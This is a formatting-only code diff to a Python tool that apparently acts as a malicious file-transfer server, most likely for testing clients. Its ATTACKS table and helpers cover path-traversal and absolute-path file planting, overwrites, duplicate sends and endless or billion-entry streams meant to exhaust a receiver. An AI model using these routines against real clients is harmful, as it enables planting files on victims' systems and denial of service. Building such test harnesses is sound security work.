@@ -50,7 +50,7 @@ def number(value: int, least: int) -> bytes:
         first = data[count - 1] | (~(bit * 2 - 1) & 0xFF)
     else:
         first = data[count - 1]
-    return bytes([first]) + data[:count - 1]
+    return bytes([first]) + data[: count - 1]
 
 
 class Sender:
@@ -77,7 +77,7 @@ class Sender:
     def send(self, data: bytes) -> None:
         """Send in frames of the multiplexed stream."""
         for start in range(0, len(data), 60000):
-            piece = data[start:start + 60000]
+            piece = data[start : start + 60000]
             self._write(struct.pack("<I", (7 << 24) | len(piece)) + piece)
 
     def list(self, name: str, mode: int, size: int = 0, target: str = "", links: bool = False) -> None:
@@ -100,8 +100,16 @@ class Sender:
 
     def again(self, index: int, content: bytes) -> None:
         """Send a whole file once more: as an index that does not follow the last one."""
-        self.send(b"\xfe" + bytes([0x80 | index >> 24, index & 255, index >> 8 & 255, index >> 16 & 255]) + struct.pack("<H", 0x8000) +
-                  struct.pack("<4i", 0, 0, 2, 0) + struct.pack("<i", len(content)) + content + struct.pack("<i", 0) + hashlib.md5(content).digest())
+        self.send(
+            b"\xfe"
+            + bytes([0x80 | index >> 24, index & 255, index >> 8 & 255, index >> 16 & 255])
+            + struct.pack("<H", 0x8000)
+            + struct.pack("<4i", 0, 0, 2, 0)
+            + struct.pack("<i", len(content))
+            + content
+            + struct.pack("<i", 0)
+            + hashlib.md5(content).digest()
+        )
 
     def end(self) -> None:
         """End as if all were well, and wait for the other end."""
@@ -149,6 +157,7 @@ def path(name: str) -> t.Callable[[Sender], None]:
         sender.list(name, _FILE, len(EVIL))
         sender.send(b"\0")
         sender.file(1, EVIL)
+
     return attack
 
 
@@ -173,13 +182,21 @@ def endless(sender: Sender) -> None:
 
 def many(sender: Sender) -> None:
     directories(sender)
-    for count in range(10 ** 9):
+    for count in range(10**9):
         sender.list(f"blocks/{STORE}/ab/{count:038x}", _FILE, 1)
 
 
 ATTACKS = {
-    "overwrite": overwrite, "twice": twice, "type": kind, "extra": path("planted"), "outside": path("../planted"), "absolute": path(f"{VICTIM}/planted"),
-    "through": through, "endless": endless, "many": many}
+    "overwrite": overwrite,
+    "twice": twice,
+    "type": kind,
+    "extra": path("planted"),
+    "outside": path("../planted"),
+    "absolute": path(f"{VICTIM}/planted"),
+    "through": through,
+    "endless": endless,
+    "many": many,
+}
 
 
 def main() -> None:
